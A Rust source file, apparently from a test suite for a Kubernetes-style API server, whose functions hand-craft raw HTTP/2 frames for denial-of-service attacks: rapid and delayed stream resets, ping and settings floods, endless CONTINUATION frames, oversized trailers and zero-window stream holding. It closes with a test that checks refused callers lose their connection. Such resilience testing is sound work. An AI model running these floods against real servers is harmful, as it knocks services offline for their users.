//! Attacks with HTTP/2 frames that no client library would send.

use std::time::Duration;

use futures::future::join_all;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{Instant, sleep, timeout, timeout_at},
};

use super::{
    Size,
    victim::{Victim, WAYS},
    world::World,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

struct Raw {
    stream: TcpStream,
    authority: String,
    authorization: Option<&'static str>,
}

impl Raw {
    async fn open(server: &Victim, settings: &[u8]) -> Option<Self> {
        let mut stream = TcpStream::connect(server.address()).await.ok()?;
        stream.set_nodelay(true).ok()?;
        let hello = [PREFACE, &frame(SETTINGS, 0, 0, settings), &frame(SETTINGS, 1, 0, &[])].concat();
        stream.write_all(&hello).await.ok()?;
        let authorization = server.authorization();
        Some(Self { stream, authority: server.address().to_string(), authorization })
    }

    /// Header block of a request, without Huffman coding or references to earlier requests.
    fn block(&self, method: &str, path: &str) -> Vec<u8> {
        let literal = |index: &[u8], text: &str| {
            let length = u8::try_from(text.len()).unwrap();
            assert!(length < 127, "a length of one byte");
            [index, &[length], text.as_bytes()].concat()
        };
        // Names 2, 4, 1 and 23 of the static table, each without indexing; 0x86 is `:scheme http`.
        let block = [literal(&[2], method), vec![0x86], literal(&[4], path), literal(&[1], &self.authority)].concat();
        let authorization = self.authorization.map(|text| literal(&[15, 8], text));
        [block, authorization.unwrap_or_default()].concat()
    }

    /// Writes `bytes` and reads what arrives meanwhile, so that neither side blocks. Returns false once the server has
    /// closed.
    async fn send(&mut self, bytes: &[u8]) -> bool {
        let mut answers = [0; 64 << 10];
        let (mut from, mut to) = self.stream.split();
        let writing = async { to.write_all(bytes).await.is_ok() };
        let reading = async { while matches!(from.read(&mut answers).await, Ok(1..)) {} };
        tokio::select! {
            sent = timeout(Duration::from_secs(5), writing) => sent.unwrap_or(false),
            () = reading => false,
        }
    }

    /// Reads up to and including the next frame of `kind`. Returns false if the server closes first.
    async fn until(&mut self, kind: u8) -> bool {
        let reading = async {
            loop {
                let mut head = [0; 9];
                self.stream.read_exact(&mut head).await.ok()?;
                let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
                self.stream.read_exact(&mut vec![0; length]).await.ok()?;
                if head[3] == kind {
                    return Some(());
                }
            }
        };
        matches!(timeout(Duration::from_secs(5), reading).await, Ok(Some(())))
    }

    /// Reads up to so many answers, or to the end. Returns the kinds of all frames.
    async fn answers(&mut self, count: usize) -> Vec<u8> {
        let mut kinds = Vec::new();
        let reading = async {
            while kinds.iter().filter(|kind| **kind == HEADERS).count() < count {
                let mut head = [0; 9];
                self.stream.read_exact(&mut head).await.ok()?;
                let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
                self.stream.read_exact(&mut vec![0; length]).await.ok()?;
                kinds.push(head[3]);
            }
            Some(())
        };
        let _ = timeout(Duration::from_secs(10), reading).await.expect("answers, or an end");
        kinds
    }

    /// Reads until the server closes the connection; false if it does not.
    async fn has_ended(&mut self) -> bool {
        let mut answers = [0; 64 << 10];
        let reading = async { while matches!(self.stream.read(&mut answers).await, Ok(1..)) {} };
        timeout(Duration::from_secs(10), reading).await.is_ok()
    }

    /// Bytes by which the server has opened the window of the connection, once it sends no more frames.
    async fn window_updates(&mut self) -> usize {
        let (mut bytes, mut chunk) = (Vec::new(), [0; 16 << 10]);
        while let Ok(Ok(read @ 1..)) = timeout(Duration::from_millis(100), self.stream.read(&mut chunk)).await {
            bytes.extend_from_slice(&chunk[..read]);
        }
        let (mut opened, mut rest) = (0, &bytes[..]);
        while let Some((head, more)) = rest.split_first_chunk::<9>() {
            let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let Some((payload, more)) = more.split_at_checked(length) else { break };
            if head[3] == WINDOW_UPDATE && head[5..] == [0; 4] {
                opened += payload.iter().fold(0, |sum, byte| sum << 8 | usize::from(*byte));
            }
            rest = more;
        }
        opened
    }
}

/// Opens streams and resets them at once.
pub(crate) async fn rapid_reset(server: &Victim, size: Size) {
    for _ in 0..size.of(200, 10) {
        let Some(mut raw) = Raw::open(server, &[]).await else { continue };
        let block = raw.block("GET", "/api/v1/pods");
        for first in (1..20_000).step_by(200) {
            let burst: Vec<u8> = (first..first + 200)
                .step_by(2)
                .flat_map(|stream| {
                    let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
                    [open, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
                })
                .collect();
            if !raw.send(&burst).await {
                break;
            }
        }
    }
}

/// The next streams of a connection, from `first` on.
fn streams(first: usize, count: usize) -> impl Iterator<Item = u32> {
    (first..first + count).map(|index| u32::try_from(2 * index + 1).unwrap())
}

/// Opens streams and resets them once the server has begun to answer, as many as it may at once.
pub(crate) async fn delayed_resets(server: &Victim, size: Size) {
    let Some(mut raw) = Raw::open(server, &[]).await else { return };
    let block = raw.block("GET", "/api/v1/pods?watch=1");
    for first in (0..size.of(100_000, 5_000)).step_by(100) {
        let open: Vec<u8> =
            streams(first, 100).flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).collect();
        let reset: Vec<u8> =
            streams(first, 100).flat_map(|stream| frame(RESET, 0, stream, &8_u32.to_be_bytes())).collect();
        if !raw.send(&open).await {
            return;
        }
        sleep(Duration::from_millis(20)).await;
        if !raw.send(&reset).await {
            return;
        }
    }
}

/// Opens lists in a closed window, and resets each once its head has come.
pub(crate) async fn resets_behind_the_head(server: &Victim, size: Size) {
    // SETTINGS_INITIAL_WINDOW_SIZE, 0.
    let Some(mut raw) = Raw::open(server, &[0, 4, 0, 0, 0, 0]).await else { return };
    let block = raw.block("GET", "/api/v1/pods");
    for stream in streams(0, size.of(5_000, 200)) {
        let (open, reset) =
            (frame(HEADERS, END_HEADERS | END_STREAM, stream, &block), frame(RESET, 0, stream, &[0; 4]));
        if !raw.send(&open).await || !raw.until(HEADERS).await || !raw.send(&reset).await {
            return;
        }
    }
}

/// Floods the server with frames that carry no request. Each flood but that of empty DATA frames, which h2 counts by
/// itself, must end its connection.
pub(crate) async fn floods(server: &Victim, size: Size) {
    let frames = [
        ("ping", frame(PING, 0, 0, &[7; 8])),
        ("settings", frame(SETTINGS, 0, 0, &[])),
        ("changed settings", frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
        ("priority", frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
        ("window", frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        ("window of a stream", frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])),
        ("unknown", frame(0xee, 0, 0, &[])),
        ("empty data", frame(DATA, 0, 1, &[])),
    ];
    for (name, flood) in frames {
        let Some(mut raw) = Raw::open(server, &[]).await else { continue };
        let open = frame(HEADERS, END_HEADERS, 1, &raw.block("POST", "/api/v1/namespaces/default/pods"));
        let _ = raw.send(&open).await;
        let flood = flood.repeat(500);
        for _ in 0..size.of(2_000, 100) {
            if !raw.send(&flood).await {
                break;
            }
        }
        assert!(raw.has_ended().await, "{name}: still connected");
    }
}

/// Ends each request by trailers with many fields, and sends trailers after the end.
pub(crate) async fn trailers(server: &Victim, size: Size) {
    let Some(mut raw) = Raw::open(server, &[]).await else { return };
    let open = raw.block("POST", "/api/v1/namespaces/default/pods");
    // `grpc-status: 0` without indexing, many times.
    let field = [&[0, 11][..], b"grpc-status", &[1], b"0"].concat();
    let fields = field.repeat(1_000);
    for stream in streams(0, size.of(20_000, 500)) {
        let begun = frame(HEADERS, END_HEADERS, stream, &open);
        let trailers = frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields);
        if !raw.send(&[begun, trailers.clone(), trailers].concat()).await {
            return;
        }
    }
}

/// Sends a header block that never ends.
pub(crate) async fn continuation(server: &Victim, size: Size) {
    for piece in [vec![], vec![0; 8 << 10]] {
        let Some(mut raw) = Raw::open(server, &[]).await else { continue };
        let _ = raw.send(&frame(HEADERS, 0, 1, &raw.block("GET", "/"))).await;
        let more = frame(CONTINUATION, 0, 1, &piece).repeat(20);
        for _ in 0..size.of(2_000, 50) {
            if !raw.send(&more).await {
                break;
            }
        }
    }
}

/// Sends bodies on many streams of one connection and ends none of them.
pub(crate) async fn held_streams(server: &Victim, size: Size) {
    let Some(mut raw) = Raw::open(server, &[]).await else { return };
    let path = "/api/v1/namespaces/default/configmaps";
    let (piece, mut window) = (vec![b' '; 16 << 10], 65_535);
    let mut held = 0;
    while held < size.of(100, 40) {
        if window < piece.len() {
            window += raw.window_updates().await;
        }
        if window < piece.len() {
            // The server reads no further bodies of this connection.
            break;
        }
        let stream = u32::try_from(2 * held + 1).unwrap();
        let open = frame(HEADERS, END_HEADERS, stream, &raw.block("POST", path));
        raw.stream.write_all(&[open, frame(DATA, 0, stream, &piece)].concat()).await.unwrap();
        window -= piece.len();
        held += 1;
    }
    assert!(held >= size.of(40, 12), "{held} bodies are held");
    sleep(Duration::from_millis(size.of(3_000, 300) as u64)).await;
}

/// Opens watches whose flow-control window stays zero.
pub(crate) async fn shut_watches(server: &Victim, size: Size) {
    // SETTINGS_INITIAL_WINDOW_SIZE, 0.
    let Some(mut raw) = Raw::open(server, &[0, 4, 0, 0, 0, 0]).await else { return };
    for index in 0..size.of(100, 40) {
        let stream = u32::try_from(2 * index + 1).unwrap();
        let path = "/api/v1/pods?watch=1&timeoutSeconds=5";
        let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, &raw.block("GET", path));
        if !raw.send(&open).await {
            return;
        }
    }
    sleep(Duration::from_millis(size.of(5_000, 300) as u64)).await;
}

/// Requests lists on all streams of several connections, each in a window of one byte, and reads none of them.
pub(crate) async fn narrow_windows(server: &Victim, size: Size) {
    let mut held = Vec::new();
    for _ in 0..size.of(40, 20) {
        // SETTINGS_INITIAL_WINDOW_SIZE, 1.
        let Some(mut raw) = Raw::open(server, &[0, 4, 0, 0, 0, 1]).await else { continue };
        let block = raw.block("GET", "/api/v1/pods?limit=20");
        if raw.send(&requests(&block, 100)).await {
            held.push(raw);
        }
    }
    sleep(Duration::from_millis(size.of(3_000, 300) as u64)).await;
}

/// Opens as many streams as it may on many connections, whose windows stay shut. Comes again when a connection ends.
pub(crate) async fn shut_windows_of_get(server: &Victim, size: Size) {
    shut_windows(server, size, "/api/v1/namespaces/default/configmaps/honest").await;
}

/// Like [`shut_windows_of_get`], with lists.
pub(crate) async fn shut_windows_of_lists(server: &Victim, size: Size) {
    shut_windows(server, size, "/api/v1/pods").await;
}

/// Like [`shut_windows_of_get`], with watches.
pub(crate) async fn shut_windows_of_watches(server: &Victim, size: Size) {
    shut_windows(server, size, "/api/v1/pods?watch=1").await;
}

async fn shut_windows(server: &Victim, size: Size, path: &str) {
    let end = Instant::now() + Duration::from_millis(size.of(12_000, 1_500) as u64);
    let connections = (0..size.of(1_000, 60)).map(|_| async move {
        while Instant::now() < end {
            // SETTINGS_INITIAL_WINDOW_SIZE, 0.
            if let Some(mut raw) = Raw::open(server, &[0, 4, 0, 0, 0, 0]).await {
                let block = raw.block("GET", path);
                let mut answers = [0; 4 << 10];
                if raw.stream.write_all(&requests(&block, 100)).await.is_ok() {
                    let reading = async { while matches!(raw.stream.read(&mut answers).await, Ok(1..)) {} };
                    let _ = timeout_at(end, reading).await;
                }
            }
            sleep(Duration::from_millis(100)).await;
        }
    });
    join_all(connections).await;
}

/// The frames of so many requests.
fn requests(block: &[u8], count: usize) -> Vec<u8> {
    streams(0, count).flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, block)).collect()
}

/// Goal: a caller that proves nothing keeps no connection, and has few of its requests carried out; others keep theirs.
/// Method: 60 requests at once for what each caller may or may not read.
#[tokio::test]
async fn refused_callers_lose_their_http2_connection() {
    let world = World::new(WAYS[0], 10).await;
    for (token, path, ends) in [
        (None, "/api/v1/nodes", true),
        (Some("wrong"), "/api/v1/nodes", true),
        (Some("owner"), "/api/v1/nodes", false),
        (Some("owner"), "/api/v1/namespaces/owned/pods", false),
        (None, "/livez", false),
    ] {
        let tokens = token.into_iter().map(str::to_owned).collect();
        let victim = Victim::new(world.server.address(), WAYS[0], None, tokens);
        let mut raw = Raw::open(&victim, &[]).await.unwrap();
        let block = raw.block("GET", path);
        raw.stream.write_all(&requests(&block, 60)).await.unwrap();
        let kinds = raw.answers(60).await;
        let answered = kinds.iter().filter(|kind| **kind == HEADERS).count();
        if ends {
            assert!((1..=20).contains(&answered), "{token:?}: {answered} answers");
            assert!(kinds.contains(&GOAWAY) && raw.has_ended().await, "{token:?}: {kinds:?}");
        } else {
            assert_eq!(answered, 60, "{token:?} {path}: {kinds:?}");
            let more = frame(HEADERS, END_HEADERS | END_STREAM, 1_001, &block);
            raw.stream.write_all(&more).await.unwrap();
            assert_eq!(raw.answers(1).await.last(), Some(&HEADERS), "{token:?}: still connected");
        }
    }
}
